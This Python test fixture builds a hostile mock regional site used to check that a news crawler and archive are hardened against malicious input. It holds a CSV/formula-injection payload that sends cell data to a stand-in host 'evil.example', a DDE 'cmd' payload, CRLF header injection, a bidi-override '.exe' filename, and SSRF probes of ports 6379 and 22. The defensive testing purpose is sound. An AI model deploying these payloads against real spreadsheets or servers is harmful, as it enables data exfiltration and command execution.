"""A hostile Région Sud site for the public-archive hardening checks (issue 14).

Each page carries one of the review's cases, in our own words: bodies of hundreds of
kilobytes and megabytes of one repeated phrase (slow snippets and LIKEs), a title with
U+FFFE (a broken Atom feed), titles that are spreadsheet formulas, titles and links with
bidirectional controls, events whose start is no real date or whose URL carries CRLF,
a link and a redirect to another port of the source's own host. Crawled by the real
`partnews crawl region_sud`, the pages go through the real pipelines into the archive
that tests/test_reliability_dos.py serves and attacks.
"""

from __future__ import annotations

import html
import json
from dataclasses import dataclass

from mirror.site import MirrorRequest, MirrorResponse
from tests.hostile import BASE, HOSTS, page

PHRASE = "lorem ipsum "  # the review's repeated phrase (twelve characters)
FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A2,"Click me")'
FORMULA_EVENT = "@SUM(1+1)*cmd|' /C calc'!A0"
BIDI_TITLE = "invoice\u202egpj.exe"
PORT_PATH = "/actualites/port-probe"


@dataclass(frozen=True)
class DosPage:
    """One page of the site: its slug, what it carries, its HTML."""

    slug: str
    case: str
    html: str

    @property
    def path(self) -> str:
        return f"/actualites/{self.slug}"

    @property
    def url(self) -> str:
        return BASE + self.path


def _repeated(size: int) -> str:
    return (PHRASE * (size // len(PHRASE) + 1))[:size]


def _event_head(**fields) -> str:
    data = {"@context": "https://schema.org", "@type": "Event", **fields}
    return (
        '<script type="application/ld+json">'
        + json.dumps(data, ensure_ascii=False).replace("</", "<\\/")
        + "</script>"
    )


def dos_pages() -> list[DosPage]:
    """Every page, numbered from 901 (far from tests/hostile.py's numbers)."""
    pages: list[DosPage] = []

    def add(slug: str, case: str, text: str) -> None:
        pages.append(DosPage(slug, case, text))

    for number, (size, label) in enumerate(
        [(72_000, "72 KB"), (960_000, "960 KB"), (3_600_000, "3.6 MB")], start=901
    ):
        body = f"<p>{html.escape(_repeated(size))}</p>"
        title = html.escape(f"Long body of {label}, one phrase repeated")
        add(f"long-body-{number}", f"body of {label}", page(number, title=title, body=body))
    add(
        "noncharacter-title",
        "title with U+FFFE",
        page(904, title=html.escape("Budget r\ufffegional et contr\u00f4les\x01")),
    )
    add(
        "formula-title",
        "title that is a spreadsheet formula",
        page(905, title=html.escape(FORMULA)),
    )
    add(
        "bidi-title",
        "title with a right-to-left override",
        page(906, title=html.escape(BIDI_TITLE)),
    )
    event_page = page(907, title=html.escape("Forum impossible"))
    add(
        "impossible-date-event",
        "event starting on 30 February",
        event_page.replace(
            "</head>", _event_head(name="Forum impossible", startDate="2030-02-30") + "</head>"
        ),
    )
    add(
        "crlf-url-event",
        "event whose URL carries CRLF",
        page(908, title=html.escape("Salon CRLF")).replace(
            "</head>",
            _event_head(
                name="Salon CRLF",
                startDate="2030-05-04T10:00:00+02:00",
                url=BASE + "/actualites/crlf\r\nX-Injected: 1",
            )
            + "</head>",
        ),
    )
    add(
        "formula-event",
        "event whose title is a spreadsheet formula",
        page(909, title=html.escape(FORMULA_EVENT)).replace(
            "</head>",
            _event_head(
                name=FORMULA_EVENT,
                startDate="2030-06-01T09:00:00+02:00",
                location={"@type": "Place", "name": "+Salle 1", "address": "-1 quai du Port"},
            )
            + "</head>",
        ),
    )
    return pages


class DosSite:
    """www.maregionsud.fr serving the pages above, a sitemap that also lists a page on
    another port of the host, and a page that redirects to port 22."""

    hosts = HOSTS

    def __init__(self) -> None:
        self.pages = dos_pages()
        self.by_path = {p.path: p for p in self.pages}

    def handle(self, request: MirrorRequest) -> MirrorResponse | None:
        if request.path == "/robots.txt":
            text = f"User-agent: *\nSitemap: {BASE}/sitemap.xml\n"
            return MirrorResponse(body=text.encode(), content_type="text/plain; charset=utf-8")
        if request.path == "/sitemap.xml":
            return MirrorResponse(body=self.sitemap(), content_type="application/xml")
        if request.path == "/actualites/moved-to-port-22":
            return MirrorResponse(
                status=301,
                body=b"",
                content_type="text/plain",
                headers={"Location": "https://www.maregionsud.fr:22/actualites/ssh"},
            )
        found = self.by_path.get(request.path)
        if found is None:
            return None
        return MirrorResponse(body=found.html.encode("utf-8"), content_type="text/html")

    def sitemap(self) -> bytes:
        locs = [p.url for p in self.pages]
        locs += [
            f"https://www.maregionsud.fr:6379{PORT_PATH}",
            BASE + "/actualites/moved-to-port-22",
        ]
        rows = "".join(
            f"<url><loc>{html.escape(u)}</loc><lastmod>2024-03-12</lastmod></url>" for u in locs
        )
        return (
            '<?xml version="1.0" encoding="UTF-8"?>\n'
            f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{rows}</urlset>\n'
        ).encode()
